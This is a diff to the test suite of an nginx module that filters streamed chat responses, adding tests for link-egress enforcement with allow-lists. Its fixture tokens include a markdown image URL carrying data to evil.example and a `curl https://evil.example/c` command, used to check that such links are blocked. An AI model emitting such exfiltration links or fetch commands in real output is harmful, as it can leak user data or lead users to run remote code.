@@ -47,6 +47,10 @@ http {{
     location /marked/ {{ citestream_markers numeric ref; proxy_pass http://127.0.0.1:{behind}/; }}
     location /utf8/ {{ citestream_offsets utf8; proxy_pass http://127.0.0.1:{behind}/; }}
     location /points/ {{ citestream_offsets codepoint; proxy_pass http://127.0.0.1:{behind}/; }}
+    location /guarded/ {{ citestream_egress enforce; citestream_egress_allow https://a.example https://*.good.example;
+      proxy_pass http://127.0.0.1:{behind}/; }}
+    location /exact/ {{ citestream_egress enforce; citestream_egress_code exact; proxy_pass http://127.0.0.1:{behind}/; }}
+    location /reported/ {{ citestream_egress report; proxy_pass http://127.0.0.1:{behind}/; }}
     location /packed/ {{ gzip on; gzip_types text/event-stream; proxy_pass http://127.0.0.1:{behind}/; }}
     location /off/ {{ citestream off; proxy_pass http://127.0.0.1:{behind}/; }}
     location /events/ {{ citestream_types text/event-stream; proxy_pass http://127.0.0.1:{behind}/; }}
@@ -141,6 +145,26 @@ class Module(unittest.IsolatedAsyncioTestCase):
             seen = set()
             for prefix, options in (("", []), ("/marked", ["--markers", "numeric,ref"]), ("/utf8", ["--offsets", "utf8"]),
                                     ("/points", ["--offsets", "codepoint"])):
+                with self.subTest(prefix):
+                    code, expected, said = await run(BINARY, "filter", *options, file)
+                    self.assertEqual(code, 0, said)
+                    self.assertEqual(await patiently(fetch(nginx.port, path=prefix + "/v1/chat")), expected)
+                    seen.add(expected)
+            self.assertEqual(len(seen), 4)  # each option changes the output
+
+    async def test_egress_is_that_of_filter_with_the_same_options(self):
+        tokens = ["See ![x](https://evil.example/?q=S) ", "and [a](https://a.example/p), [b](https://x.good.example/p)",
+                  " or `curl https://evil.example/c`, [R.p", "df](f-1)."]
+        files = [{"text": "It grew.", "fileId": "f-1", "cite": "f-1"}]
+        stream = "".join([*map(event, tokens), event(None, "stop", files), "data: [DONE]\n\n"])
+        allowed = ["--egress-allow", "https://a.example", "--egress-allow", "https://*.good.example"]
+        with NginxPeers(BINARY) as peers:
+            nginx = peers.module_nginx(peers.replay({"answer": stream}, "--pace", "0"))
+            file = peers.write("stream.sse", stream)
+            seen = set()
+            for prefix, options in (("", []), ("/guarded", ["--egress", "enforce", *allowed]),
+                                    ("/exact", ["--egress", "enforce", "--egress-code", "exact"]),
+                                    ("/reported", ["--egress", "report"])):
                 with self.subTest(prefix):
                     code, expected, said = await run(BINARY, "filter", *options, file)
                     self.assertEqual(code, 0, said)
@@ -376,6 +400,7 @@ class Module(unittest.IsolatedAsyncioTestCase):
             for line, said in (("citestream_style loud;", "citestream_style is not one of strip"),
                                ("citestream_markers link what;", "citestream_markers is not one of"),
                                ("citestream_offsets utf7;", "citestream_offsets is not one of utf8, utf16, codepoint"),
+                               ("citestream_egress_allow evil;", "citestream_egress_allow"),
                                ("citestream_style keep; citestream_style keep;", '"citestream_style" directive is duplicate')):
                 path = peers.write("bad.conf", f"load_module {MODULE};\npid {peers.folder}/p; events {{}} http {{\n{line}\n}}")
                 code, _, text = await run(program("nginx"), "-t", "-c", path, "-e", "stderr")
